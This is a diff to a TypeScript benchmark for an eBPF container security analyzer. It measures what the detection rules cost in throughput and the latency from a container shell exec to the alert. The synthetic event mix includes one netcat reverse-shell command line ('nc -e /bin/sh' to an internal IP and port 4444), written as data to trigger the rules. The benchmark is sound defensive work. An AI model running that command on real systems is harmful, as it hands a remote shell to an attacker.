@@ -1,42 +1,190 @@
 /**
- * The security analyzer: pipeline throughput with every built-in rule loaded versus none, and
- * the time from the attacking syscall (the event's kernel timestamp) to the alert.
+ * The security analyzer: what the rules cost on the path an event takes in `eunomia server`
+ * (record decoded from its BTF struct → container enrichment → [analyzer] → sink), and the
+ * time from the attacking syscall (the event's kernel timestamp) to the alert. Needs root and
+ * a Docker engine with the test image (scripts/test-env.sh).
  */
 import { execFile } from 'node:child_process';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { performance } from 'node:perf_hooks';
 import { promisify } from 'node:util';
 import { Analyzer } from '../src/analyzer/analyzer.js';
-import { ProcessTree } from '../src/analyzer/process-tree.js';
-import { loadRules } from '../src/rules/index.js';
+import { Btf, compileDecoder, encodeValue } from '../src/core/btf/index.js';
 import type { NativeBinding } from '../src/core/native.js';
-import { Pipeline } from '../src/pipeline/pipeline.js';
+import { objectDir } from '../src/core/paths.js';
+import { cgroup2Root, scanCgroups } from '../src/containers/cgroup.js';
+import { enrichHandler, startContainers, type Containers } from '../src/containers/index.js';
 import { countingSink } from '../src/pipeline/handlers.js';
-import type { TrackerEvent } from '../src/pipeline/types.js';
+import { Pipeline } from '../src/pipeline/pipeline.js';
+import type { Handler } from '../src/pipeline/types.js';
+import { loadRules, type RuleSet } from '../src/rules/index.js';
 import { Agent } from '../src/server/agent.js';
 import { defaultConfig } from '../src/server/config.js';
+import { opensnoopTracker } from '../src/trackers/opensnoop/index.js';
+import { processTracker } from '../src/trackers/process/index.js';
+import { tcpconnectTracker } from '../src/trackers/tcpconnect/index.js';
+import type { TrackerDescriptor } from '../src/trackers/types.js';
 
 const run = promisify(execFile);
 const IMAGE = 'eunomia-test/busybox:3';
-const web = Object.freeze({ id: 'cd7a6582a036', full_id: 'cd7a6582a036'.padEnd(64, '0'), name: 'web', image: 'nginx:1' });
 
-/** A mix like a busy container host: execs and opens, mostly benign, from containers. */
-function event(i: number): TrackerEvent {
-  const k = i % 4;
-  const base = { pid: 1000 + (i & 4095), tid: 1000 + (i & 4095), ppid: 1, uid: 0, gid: 0, container: web };
-  if (k === 0) return { tracker: 'process', instance: 1, time: i, data: { ...base, type: 'exec', comm: 'python3', exe: '/usr/bin/python3', args: ['python3', 'app.py'] } };
-  if (k === 1) return { tracker: 'tcpconnect', instance: 3, time: i, data: { ...base, comm: 'python3', direction: 'connect', daddr: '10.0.0.7', dport: 5432 } };
-  return { tracker: 'opensnoop', instance: 2, time: i, data: { ...base, comm: 'nginx', path: '/usr/share/nginx/html/index.html', flags: 'O_RDONLY|O_CLOEXEC', fd: 7 } };
+const O_WRONLY = 1;
+const O_RDWR = 2;
+const O_CREAT = 0o100;
+const O_TRUNC = 0o1000;
+const O_APPEND = 0o2000;
+const O_NONBLOCK = 0o4000;
+const O_DIRECTORY = process.arch === 'arm64' || process.arch === 'arm' ? 0o40000 : 0o200000;
+const O_CLOEXEC = 0o2000000;
+const AF_INET = 2;
+
+type Fields = Record<string, unknown>;
+/** One tracker's records: the shipped object's struct, its decoder and `format`. */
+interface Source { name: string; decode: (b: Buffer, off: number) => Fields; size: number; btf: Btf; typeId: number }
+
+function source(t: TrackerDescriptor): Source {
+  const btf = Btf.fromElf(readFileSync(join(objectDir, t.object)));
+  const typeId = btf.find(t.event!.struct, 'struct')!.id;
+  const decoder = compileDecoder(btf, typeId);
+  const format = t.format;
+  return { name: t.name, btf, typeId, size: decoder.size, decode: (b, off) => { const d = decoder.decode(b, off); format?.(d); return d; } };
 }
 
-// Made once: the analyzer only reads events, so the timed loop measures the pipeline alone.
-const EVENTS = Array.from({ length: 4096 }, (_, i) => event(i));
+const ip = (s: string): number[] => s.split('.').map(Number);
 
-function throughput(withRules: boolean, n: number): number {
-  const handlers = withRules ? [new Analyzer({ rules: loadRules([]), tree: new ProcessTree({ proc: () => undefined }) })] : [];
+/**
+ * A busy container host, mostly benign: an app container (python) opening its code, libraries
+ * and config, writing temp files, exec-ing its interpreter and connecting to its database;
+ * host daemons doing the same kind of things (sshd reading /etc/shadow is an exception of a
+ * rule). Near misses on purpose: reads below /etc, writes outside /etc and binary dirs. One
+ * event per 4096 is an attack (netcat run from /dev/shm in a container), so the match path is
+ * taken too.
+ */
+function mix(container: boolean): { tracker: 'process' | 'opensnoop' | 'tcpconnect'; fields: Fields }[] {
+  const app = { comm: 'python3', uid: 1000, gid: 1000, ppid: 1 };
+  const open = (comm: string, path: string, flags: number, fd = 7): { tracker: 'opensnoop'; fields: Fields } =>
+    ({ tracker: 'opensnoop', fields: { ...app, comm, syscall: 'openat', dfd: -100, fd, error_raw: fd < 0 ? 2 : 0, flags_raw: flags, mode_raw: flags & O_CREAT ? 0o644 : 0, path } });
+  const conn = (daddr: string, dport: number): { tracker: 'tcpconnect'; fields: Fields } =>
+    ({ tracker: 'tcpconnect', fields: { ...app, family_raw: AF_INET, saddr_raw: ip('172.17.0.5'), daddr_raw: ip(daddr), direction: 'connect', sport: 40000 + dport % 1000, dport, established: true } });
+  const proc = (type: 'exec' | 'exit', comm: string, exe: string, args: string[]): { tracker: 'process'; fields: Fields } =>
+    ({ tracker: 'process', fields: { ...app, comm, type, filename: exe, exe, args: args.join('\0'), args_size: args.join('\0').length + 1 } });
+  if (container) {
+    return [
+      open('python3', '/app/server.py', O_CLOEXEC),
+      open('python3', '/usr/lib/python3.11/json/__init__.py', O_CLOEXEC),
+      open('python3', '/usr/lib/python3.11/encodings', O_DIRECTORY | O_NONBLOCK | O_CLOEXEC),
+      open('python3', '/etc/hosts', O_CLOEXEC),
+      open('python3', '/etc/resolv.conf', O_CLOEXEC),
+      open('python3', '/tmp/upload-7f3a.part', O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC),
+      open('python3', '/app/static/index.html', O_CLOEXEC),
+      open('python3', '/proc/self/status', O_CLOEXEC),
+      open('python3', '/app/config.missing', O_CLOEXEC, -1),
+      open('gunicorn', '/var/log/app/access.log', O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC),
+      conn('10.0.0.7', 5432),
+      conn('10.0.0.7', 5432),
+      conn('10.0.0.8', 6379),
+      conn('93.184.216.34', 443),
+      proc('exec', 'python3', '/usr/local/bin/python3', ['python3', '-m', 'worker', '--queue', 'default']),
+      proc('exit', 'python3', '', []),
+    ];
+  }
+  return [
+    open('systemd-journal', '/var/log/journal/abc/system.journal', O_RDWR | O_CREAT | O_CLOEXEC),
+    open('sshd', '/etc/shadow', O_CLOEXEC),
+    open('sshd', '/etc/ssh/sshd_config', O_CLOEXEC),
+    open('cron', '/etc/crontab', O_CLOEXEC),
+    open('node', '/usr/lib/node_modules/npm/package.json', O_CLOEXEC),
+    open('containerd', '/run/containerd/io.containerd.runtime.v2.task/moby/x/config.json', O_CLOEXEC),
+    open('dockerd', '/var/lib/docker/containers/x/hostconfig.json', O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC),
+    open('bash', '/home/dev/.bash_history', O_WRONLY | O_APPEND | O_CREAT),
+    conn('10.0.0.1', 53),
+    conn('140.82.112.3', 443),
+    proc('exec', 'ls', '/usr/bin/ls', ['ls', '--color=auto', '-la']),
+    proc('exit', 'ls', '', []),
+    proc('exec', 'git', '/usr/bin/git', ['git', 'status', '--porcelain']),
+    proc('exit', 'git', '', []),
+  ];
+}
+
+const ATTACK_ARGS = ['nc', '-e', '/bin/sh', '10.0.0.9', '4444'].join('\0');
+const ATTACK = { tracker: 'process', fields: { comm: 'nc', uid: 0, gid: 0, ppid: 1, type: 'exec', filename: '/dev/shm/nc', exe: '/dev/shm/nc', args: ATTACK_ARGS, args_size: ATTACK_ARGS.length + 1 } } as const;
+
+/** Records in memory, one buffer per tracker, and the order to push them in. */
+interface Workload { sources: Source[]; bufs: Buffer[]; which: Uint8Array; offsets: Uint32Array; containers: number; hosts: number }
+
+function workload(containerCgroups: number[], hostCgroups: number[], n: number): Workload {
+  const sources = [processTracker, opensnoopTracker, tcpconnectTracker].map(source);
+  const idx = { process: 0, opensnoop: 1, tcpconnect: 2 };
+  const inCt = mix(true);
+  const onHost = mix(false);
+  const per: Fields[][] = [[], [], []];
+  const which = new Uint8Array(n);
+  const slot = new Uint32Array(n);
+  for (let i = 0; i < n; i++) {
+    // Two events of three come from containers (the attack, at 4095 of each 4096, too).
+    const ct = i % 3 !== 2;
+    const cgs = ct ? containerCgroups : hostCgroups;
+    const pick = i % 4096 === 4095 ? ATTACK : ct ? inCt[(i * 7) % inCt.length]! : onHost[(i * 5) % onHost.length]!;
+    which[i] = idx[pick.tracker];
+    slot[i] = per[which[i]!]!.length;
+    per[which[i]!]!.push({ ...pick.fields, pid: 1000 + (i & 1023), tid: 1000 + (i & 1023), cgroup_id: cgs[i % cgs.length] });
+  }
+  const bufs = sources.map((s, k) => {
+    const buf = Buffer.alloc(s.size * Math.max(1, per[k]!.length));
+    per[k]!.forEach((f, j) => encodeValue(s.btf, s.typeId, f, buf, j * s.size, `bench ${s.name} record`));
+    return buf;
+  });
+  const offsets = new Uint32Array(n);
+  for (let i = 0; i < n; i++) offsets[i] = slot[i]! * sources[which[i]!]!.size;
+  return { sources, bufs, which, offsets, containers: containerCgroups.length, hosts: hostCgroups.length };
+}
+
+/** Events/s for decode → handlers → counting sink, as the tracker's batch callback feeds the pipeline. */
+function throughput(handlers: Handler[], w: Workload, n: number): number {
   const sink = countingSink();
   const p = new Pipeline({ handlers, sinks: [sink] });
+  const total = w.which.length;
+  const { sources, bufs, which, offsets } = w;
   const t0 = performance.now();
-  for (let i = 0; i < n; i++) p.push(EVENTS[i & 4095]!);
-  return n / ((performance.now() - t0) / 1000);
+  for (let i = 0; i < n; i++) {
+    const j = i % total;
+    const s = sources[which[j]!]!;
+    p.push({ tracker: s.name, instance: 1, time: 1_700_000_000_000 + i, data: s.decode(bufs[which[j]!]!, offsets[j]!) });
+  }
+  const secs = (performance.now() - t0) / 1000;
+  if (sink.count !== n) throw new Error(`bench: ${n - sink.count} events did not reach the sink`);
+  return n / secs;
+}
+
+function scanCgroupIds(): number[] {
+  const root = cgroup2Root();
+  return root ? [...scanCgroups(root).keys()] : [];
+}
+
+async function rulesCost(c: Containers): Promise<void> {
+  const containerCgroups = [...c.resolver.containerCgroups().keys()];
+  const hostCgroups = scanCgroupIds().filter((cg) => !containerCgroups.includes(cg)).slice(0, 8);
+  if (containerCgroups.length === 0 || hostCgroups.length === 0) throw new Error('bench: no container or host cgroups found');
+  const w = workload(containerCgroups, hostCgroups, 65536);
+  const enrich = (): Handler => enrichHandler(c.resolver);
+  // Rules are loaded once, as the server does: their compiled matchers stay warm from run to
+  // run. The analyzer without rules too: its own work (process tree, stats) apart from the rules'.
+  const builtin = loadRules([]);
+  const noRules = loadRules([], false);
+  const analyzer = (rules: RuleSet) => (): Handler => new Analyzer({ rules });
+  const variants = [[], [analyzer(builtin)], [analyzer(noRules)]].map((extra) => (): Handler[] => [enrich(), ...extra.map((f) => f())]);
+  const n = 500_000;
+  // Warm up every path (JIT, caches), then alternate runs and take the best of each.
+  for (const v of variants) throughput(v(), w, n / 5);
+  const best = variants.map(() => 0);
+  for (let r = 0; r < 5; r++) variants.forEach((v, i) => (best[i] = Math.max(best[i]!, throughput(v(), w, n))));
+  const [a, b, bare] = best as [number, number, number];
+  const ns = (x: number): string => (1e9 / x).toFixed(0);
+  const rules = builtin.rules().filter((r) => r.enabled).length;
+  console.log(`rules: ${n / 1000}k process, opensnoop and tcpconnect records decoded from memory → container enrichment → sink, over ${w.containers} container and ${w.hosts} host cgroups (mostly benign; best of 5):`);
+  console.log(`  without the analyzer ${(a / 1e6).toFixed(2)} M ev/s (${ns(a)} ns/event), with all ${rules} built-in rules ${(b / 1e6).toFixed(2)} M ev/s (${ns(b)} ns/event): rules cost ${((1 - b / a) * 100).toFixed(1)} % of pipeline throughput (target < 25 %), ${(1e9 / b - 1e9 / a).toFixed(0)} ns per event`);
+  console.log(`  of which the analyzer stage with no rules: ${(1e9 / bare - 1e9 / a).toFixed(0)} ns per event (${((1 - bare / a) * 100).toFixed(1)} %)`);
 }
 
 async function alertLatency(native: NativeBinding, runs: number): Promise<void> {
@@ -45,49 +193,58 @@ async function alertLatency(native: NativeBinding, runs: number): Promise<void> 
   config.rules.burst = 1000; // every run's alert, not a throttled few
   const agent = await Agent.start(config, { native, log: () => {} });
   const lat: number[] = [];
+  let missed = 0;
+  const name = `eunomia-bench-rules-${process.pid}`; // two benches at once must not share it
   try {
-    await run('docker', ['rm', '-f', 'eunomia-bench-rules']).catch(() => {});
-    await run('docker', ['run', '-d', '--name', 'eunomia-bench-rules', IMAGE, 'sleep', '3600']);
+    await run('docker', ['run', '-d', '--name', name, IMAGE, 'sleep', '3600']);
     for (let i = 0; i < runs; i++) {
-      const seen = new Promise<number>((resolve) => {
-        const off = agent.analyzer!.subscribe((a) => {
-          if (a.rule !== 'shell_in_container' || a.container?.name !== 'eunomia-bench-rules') return;
+      let off = (): void => {};
+      const seen = new Promise<number | undefined>((resolve) => {
+        const timer = setTimeout(() => (off(), resolve(undefined)), 5000);
+        off = agent.analyzer!.subscribe((a) => {
+          if (a.rule !== 'shell_in_container' || a.container?.name !== name) return;
           off();
+          clearTimeout(timer);
           resolve(Date.now() - Date.parse(a.time)); // alert out − the exec's kernel timestamp
         });
       });
-      await run('docker', ['exec', 'eunomia-bench-rules', 'sh', '-c', 'true']);
-      lat.push(await seen);
+      // -t: the rule is about interactive shells (with a terminal).
+      await run('docker', ['exec', '-t', name, 'sh', '-c', 'true']);
+      const ms = await seen;
+      if (ms === undefined) missed++;
+      else lat.push(ms);
     }
   } finally {
-    await run('docker', ['rm', '-f', 'eunomia-bench-rules']).catch(() => {});
+    await run('docker', ['rm', '-f', name]).catch(() => {});
     await agent.close();
   }
   lat.sort((a, b) => a - b);
-  const q = (p: number): number => lat[Math.min(lat.length - 1, Math.floor(p * lat.length))]!;
-  console.log(`attack (exec of a shell in a container) → alert, ${runs} runs: p50 ${q(0.5)} ms, p95 ${q(0.95)} ms, max ${q(1)} ms (target p95 < 100 ms)`);
+  const q = (p: number): number => lat[Math.min(lat.length - 1, Math.floor(p * lat.length))] ?? NaN;
+  const lost = missed ? `; ${missed} runs raised no alert within 5 s` : '';
+  console.log(`attack (interactive shell: docker exec -t … sh) → alert, ${runs} runs: p50 ${q(0.5)} ms, p95 ${q(0.95)} ms, max ${q(1)} ms (target p95 < 100 ms)${lost}`);
 }
 
 export async function rulesBench(native: NativeBinding): Promise<void> {
-  const n = 1_000_000;
-  throughput(false, n / 5);
-  throughput(true, n / 5);
-  const none: number[] = [];
-  const all: number[] = [];
-  for (let r = 0; r < 3; r++) {
-    none.push(throughput(false, n));
-    all.push(throughput(true, n));
-  }
-  const a = Math.max(...none);
-  const b = Math.max(...all);
-  const rules = loadRules([]).rules().length;
-  console.log(`rules: pipeline throughput, 1M container events (execs, connects, opens; mostly benign), best of 3:`);
-  console.log(`  no rules ${(a / 1e6).toFixed(2)} M ev/s, all ${rules} built-in rules ${(b / 1e6).toFixed(2)} M ev/s: rules cost ${((1 - b / a) * 100).toFixed(1)} % of the bare pipeline (target < 25 %), ${(1e9 / b - 1e9 / a).toFixed(0)} ns per event`);
   try {
     await run('docker', ['image', 'inspect', IMAGE]);
   } catch {
-    console.log(`  alert latency: skipped — no Docker engine with ${IMAGE} (run scripts/test-env.sh as root)`);
+    console.log(`rules: skipped — no Docker engine with ${IMAGE} (run scripts/test-env.sh as root)`);
     return;
+  }
+  const c = await startContainers(native, { log: (l) => console.log(`  (${l})`) });
+  const sleepers: string[] = [];
+  try {
+    // Containers the resolver knows by name, as an app host has.
+    for (let i = 0; i < 4; i++) {
+      const name = `eunomia-bench-app-${process.pid}-${i}`;
+      await run('docker', ['run', '-d', '--name', name, IMAGE, 'sleep', '3600']);
+      sleepers.push(name);
+    }
+    await new Promise((r) => setTimeout(r, 300));
+    await rulesCost(c);
+  } finally {
+    if (sleepers.length) await run('docker', ['rm', '-f', ...sleepers]).catch(() => {});
+    await c.close();
   }
   await alertLatency(native, 30);
 }
